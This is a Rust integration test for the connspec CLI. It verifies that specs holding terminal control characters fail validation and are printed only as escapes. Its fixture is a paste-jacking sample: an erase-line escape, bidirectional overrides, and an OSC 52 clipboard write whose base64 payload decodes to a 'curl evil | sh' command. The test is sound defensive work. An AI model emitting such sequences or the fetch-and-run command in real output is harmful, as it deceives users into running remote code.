//! Terminal and paste safety through the real binary: a spec or an instance file holding an
//! erase-line, an OSC 52 clipboard write or bidirectional controls fails `check` (M009) and
//! `compile`; with the rule turned off, `compile` shows them as escapes in every human format.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use connspec_diagnostics::terminal::is_unsafe;

/// Erase the line, write the clipboard, override the direction.
const HOSTILE_YAML: &str = r"\e[2K\e]52;c;Y3VybCBldmlsIHwgc2g=\a\u202Eexe.txt\u2066";

fn project_root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .ancestors()
        .nth(2)
        .expect("the workspace root")
        .to_path_buf()
}

fn connspec(dir: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_connspec"))
        .current_dir(dir)
        .args(args)
        .env("NO_COLOR", "1")
        .output()
        .expect("connspec runs")
}

fn transcript(output: &Output) -> String {
    format!(
        "exit {:?}\n--- stdout\n{}\n--- stderr\n{}",
        output.status.code(),
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    )
}

fn assert_nothing_raw(what: &str, output: &Output) {
    let text = transcript(output);
    if let Some(c) = text.chars().find(|c| is_unsafe(*c)) {
        panic!("{what} printed {c:?} raw:\n{text}");
    }
}

/// The Coupa spec with the hostile text in an action's description, and an instance file with
/// it in its description.
fn workspace() -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("a temporary folder");
    let root = project_root();
    let spec = std::fs::read_to_string(root.join("connectors/coupa/expense-reports.yaml"))
        .expect("the spec");
    let marker = "    description: Expense reports";
    assert!(spec.contains(marker), "the spec changed; update this test");
    let hostile = spec.replacen(
        marker,
        &format!("    description: \"{HOSTILE_YAML}\"\n    x_was: Expense reports"),
        1,
    );
    // Keep the file valid: the moved text becomes a comment.
    let hostile = hostile.replacen("    x_was: ", "    # ", 1);
    std::fs::write(dir.path().join("spec.yaml"), hostile).expect("write the spec");
    std::fs::write(
        dir.path().join("acme.yaml"),
        format!(
            "instance_version: 1\ndescription: \"{HOSTILE_YAML}\"\nvalues:\n  domain: \
             acme-test.coupahost.com\nsecrets:\n  COUPA_CLIENT_ID: env:ID\n  \
             COUPA_CLIENT_SECRET: env:SECRET\n"
        ),
    )
    .expect("write the instance");
    dir
}

#[test]
fn control_characters_fail_check_and_compile_and_are_never_printed_raw() {
    let dir = workspace();
    for (what, args) in [
        (
            "check spec",
            vec!["check", "spec.yaml", "--color", "always"],
        ),
        (
            "check instance",
            vec!["check", "acme.yaml", "--color", "always"],
        ),
        (
            "compile",
            vec![
                "compile",
                "spec.yaml",
                "-i",
                "acme.yaml",
                "--color",
                "always",
            ],
        ),
    ] {
        let run = connspec(dir.path(), &args);
        let text = transcript(&run);
        assert_eq!(run.status.code(), Some(1), "{what}: {text}");
        assert!(text.contains("error[M009]"), "{what}: {text}");
        // The colours are the renderer's; strip them before looking for raw characters.
        let unstyled = text
            .replace("\u{1b}[0m", "")
            .split('\u{1b}')
            .enumerate()
            .map(|(i, part)| {
                if i == 0 {
                    part.to_owned()
                } else {
                    // `ESC [ digits ; … m`: drop up to the `m`; anything else stays visible.
                    match part.strip_prefix('[').and_then(|p| {
                        let end = p.find(|c: char| !c.is_ascii_digit() && c != ';')?;
                        p[end..].strip_prefix('m')
                    }) {
                        Some(rest) => rest.to_owned(),
                        None => format!("\u{1b}{part}"),
                    }
                }
            })
            .collect::<String>();
        if let Some(c) = unstyled.chars().find(|c| is_unsafe(*c)) {
            panic!("{what} printed {c:?} raw:\n{text}");
        }
    }
}

#[test]
fn with_the_rule_off_compile_prints_escapes_in_every_human_format() {
    let dir = workspace();
    std::fs::write(
        dir.path().join("connspec.toml"),
        "[check]\nignore = [\"M009\"]\n",
    )
    .expect("write the project file");
    for target in [
        "agent-studio",
        "setup",
        "curl",
        "moveworks-api",
        "postman",
        "hurl",
    ] {
        for format in ["text", "markdown", "json"] {
            let run = connspec(
                dir.path(),
                &[
                    "compile",
                    "spec.yaml",
                    "-i",
                    "acme.yaml",
                    "-t",
                    target,
                    "--format",
                    format,
                ],
            );
            let what = format!("compile -t {target} --format {format}");
            assert_eq!(run.status.code(), Some(0), "{what}: {}", transcript(&run));
            assert_nothing_raw(&what, &run);
            if target == "agent-studio" && format != "json" {
                let stdout = String::from_utf8_lossy(&run.stdout);
                assert!(stdout.contains("\\u{1b}[2K"), "{what}: {stdout}");
            }
        }
    }
}

#[test]
fn diff_shows_changed_text_with_escapes() {
    let dir = workspace();
    std::fs::copy(
        project_root().join("connectors/coupa/expense-reports.yaml"),
        dir.path().join("old.yaml"),
    )
    .expect("copy the spec");
    let new = std::fs::read_to_string(dir.path().join("old.yaml"))
        .expect("the spec")
        .replacen(
            "headers: { Accept: application/json }",
            &format!("headers: {{ Accept: \"application/json{HOSTILE_YAML}\" }}"),
            1,
        );
    std::fs::write(dir.path().join("new.yaml"), new).expect("write the new spec");
    for format in ["human", "markdown", "json"] {
        let run = connspec(
            dir.path(),
            &["diff", "old.yaml", "new.yaml", "--format", format],
        );
        let what = format!("diff --format {format}");
        assert_eq!(run.status.code(), Some(0), "{what}: {}", transcript(&run));
        assert!(
            String::from_utf8_lossy(&run.stdout).contains("Accept"),
            "{what}: {}",
            transcript(&run)
        );
        assert_nothing_raw(&what, &run);
    }
}
